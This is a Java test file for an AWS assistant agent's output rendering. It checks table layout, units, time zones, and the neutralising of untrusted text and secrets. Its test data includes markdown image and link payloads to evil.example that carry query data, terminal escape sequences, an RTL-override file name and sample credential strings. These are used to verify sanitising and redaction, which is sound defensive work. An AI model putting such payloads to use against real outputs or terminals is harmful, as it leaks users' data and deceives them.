package dev.awsagent.agent;

import static org.assertj.core.api.Assertions.assertThat;

import dev.awsagent.internal.Json;
import dev.awsagent.internal.Redactor;
import dev.awsagent.internal.Text;
import dev.awsagent.plan.StepOutcome;
import dev.awsagent.tool.FailureKind;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.List;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RenderingTest {

    private static final Reply.Context HERE =
            new Reply.Context("c", "dev", "123456789012", "eu-west-1", null, false, "local");

    private static String table(String json) {
        return ResultText.of(Json.parse(json), ZoneOffset.UTC);
    }

    @Test
    void listOfRecords_isATableWithHumanSizesAndTimes() {
        assertThat(table("{\"objects\":[{\"key\":\"a.txt\",\"size\":1536,\"lastModified\":\"2026-01-02T03:04:05Z\"},"
                        + "{\"key\":\"b\",\"size\":7,\"lastModified\":null}]}"))
                .isEqualTo("""
                        key       size  last modified
                        a.txt  1.5 KiB  2026-01-02 03:04:05 Z
                        b          7 B  -""");
    }

    @Test
    void times_areInTheZoneThatIsNamed() {
        assertThat(ResultText.of(Json.parse("{\"at\":\"2026-01-02T23:30:00Z\"}"), ZoneId.of("Europe/Berlin")))
                .isEqualTo("at: 2026-01-03 00:30:00 CET");
    }

    @Test
    void wideCharacters_keepColumnsInLine() {
        var lines = table(
                        "[{\"key\":\"写真.jpg\",\"n\":1},{\"key\":\"👩\u200d💻.txt\",\"n\":2},{\"key\":\"cafe\u0301.txt\",\"n\":3}]")
                .split("\n");

        assertThat(List.of(lines)).extracting(Text::width).containsOnly(Text.width(lines[0]));
    }

    @Test
    void emptyList_saysSo() {
        assertThat(table("{\"buckets\":[]}")).isEqualTo("buckets: (none)");
        assertThat(table("[]")).isEqualTo("(none)");
        assertThat(table("{\"count\":0,\"buckets\":[],\"notes\":[]}")).isEqualTo("count: 0");
    }

    @Test
    void emptyListBesideAFullOne_isNoNews() {
        assertThat(table("{\"buckets\":[{\"name\":\"b\"}],\"notes\":[]}")).isEqualTo("name\nb");
    }

    @Test
    void rowsThatAreCut_areCounted() {
        var json = Json.array();
        for (int i = 0; i < 1200; i++) {
            json.addObject().put("key", "k" + i);
        }

        assertThat(ResultText.of(json, ZoneOffset.UTC)).endsWith("… 700 more of 1200; the JSON has them all");
    }

    @Test
    void record_isNamesAndValues() {
        assertThat(
                        table(
                                "{\"bucket\":\"b\",\"versioningEnabled\":true,\"tags\":[\"a\",\"b\"],\"rules\":[{\"id\":\"x\"}],\"more\":{\"y\":1}}"))
                .isEqualTo("""
                        bucket:             b
                        versioning enabled: yes
                        tags:               a, b
                        rules:
                          id
                          x
                        more:
                          y: 1""");
    }

    @ParameterizedTest
    @CsvSource({
        "0,0 B",
        "1023,1023 B",
        "1024,1 KiB",
        "1536,1.5 KiB",
        "1048575,1 MiB",
        "5368709120,5 GiB",
        "9223372036854775807,8 EiB"
    })
    void bytes_areInBinaryUnits(long bytes, String text) {
        assertThat(Rendering.bytes(bytes)).isEqualTo(text);
    }

    @Test
    void nextPage_isSaid() {
        var outcome = new StepOutcome(
                "1", "t_t", Json.parse("[\"a\"]"), Json.parse("[\"a\"]"), "ask for more after a", null, List.of(), 1);

        assertThat(Rendering.in(ZoneOffset.UTC).answer(HERE, null, List.of(outcome)))
                .isEqualTo(
                        "a\nThis is not all: ask for more after a\n\n[profile dev, account 123456789012, region eu-west-1]");
    }

    @Test
    void sandbox_isSaidClearly() {
        var sandbox = new Reply.Context("c", null, "sandbox", "us-east-1", "http://127.0.0.1:1", true, "local");

        assertThat(Rendering.place(sandbox)).isEqualTo("SANDBOX, not AWS, region us-east-1");
    }

    @Test
    void failure_namesTheNextStep() {
        var reply = new Reply.Failed(HERE, FailureKind.NOT_FOUND, "no bucket 'x'", "did you mean y?", List.of());

        assertThat(Rendering.in(ZoneOffset.UTC).text(reply))
                .isEqualTo("Failed: no bucket 'x'\nNext: did you mean y?\n\n"
                        + "[profile dev, account 123456789012, region eu-west-1]");
    }

    @ParameterizedTest
    @CsvSource(
            quoteCharacter = '`',
            value = {
                "`a\u001b[31mred`,`a\\e[31mred`",
                "`x\r\ny`,`x\\r\\ny`",
                "`a\u202egnp.exe`,`a\\u202egnp.exe`",
                "`a\u0007\u009bb`,`a\\u0007\\u009bb`",
                "`a\u200bb\u2028c`,`a\\u200bb\\u2028c`",
                "`[click](http://evil.example/?d=1)`,`[click] (http://evil.example/?d=1)`",
                "`![i](http://evil.example/x.png)`,`![i] (http://evil.example/x.png)`",
                "`plain.txt`,`plain.txt`",
                "`写真 👩\u200d💻 café.txt`,`写真 👩\u200d💻 café.txt`",
            })
    void textFromElsewhere_isHarmless(String text, String shown) {
        assertThat(Rendering.harmless(text)).isEqualTo(shown);
    }

    @Test
    void namesInATable_areHarmless() {
        assertThat(table("[{\"key\":\"\\u001b]0;owned\\u0007\",\"\\u001b[2J\":1}]"))
                .doesNotContain("\u001b", "\u0007");
    }

    @Test
    void wordsOfAModel_keepTheirLinesAndLoseTheirLinks() {
        var text = Rendering.in(ZoneOffset.UTC)
                .answer(HERE, "First.\nSee ![x](http://evil.example/?data=secret)\u001b[8m", List.of());

        assertThat(text).startsWith("First.\nSee ![x] (http").contains("\\e[8m").doesNotContain("](", "\u001b");
    }

    @Property(tries = 500)
    void harmlessText_holdsNothingThatActs(@ForAll String text) {
        var shown = Text.harmless(text);

        assertThat(shown.codePoints())
                .noneMatch(c -> c < 0x20 || c >= 0x7f && c < 0xa0 || c == 0x202e || c == 0x2066 || c == 0x200b);
        assertThat(shown).doesNotContain("](");
        assertThat(Text.harmless(shown)).isEqualTo(shown);
    }

    @Property(tries = 500)
    void cutText_isNeverWiderThanAllowed(@ForAll String text) {
        assertThat(Text.width(Text.cut(Text.harmless(text), 20))).isLessThanOrEqualTo(20);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "AKIAIOSFODNN7EXAMPLE",
                "key ASIAIOSFODNN7EXAMPLE.",
                "aws_secret_access_key=AKSECRETvalue",
                "aws_secret_access_key = 'AKSECRETvalue'",
                "\"SecretAccessKey\": \"AKSECRETvalue\"",
                "AWS_SESSION_TOKEN=AKSECRETvalue",
                "https://b/?X-Amz-Security-Token=AKSECRETvalue&x=1",
                "https://b/?X-Amz-Signature=AKSECRETvalue",
                "password: AKSECRETvalue",
                "Authorization: Bearer AKSECRETvalue00",
                "IQoJb3JpZ2luX2VjEAKSECRETvalueaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
                "sk-AKSECRETvalue0123456789"
            })
    void secrets_areTakenOutByTheirForm(String text) {
        assertThat(Redactor.redact(text)).contains("***").doesNotContain("AKSECRETvalue", "IOSFODNN7EXAMPLE");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "list my buckets",
                "the secret bucket",
                "s3://data/session-2026/part-1.csv",
                "password rules",
                "arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf"
            })
    void ordinaryText_staysAsItIs(String text) {
        assertThat(Redactor.redact(text)).isEqualTo(text);
    }
}
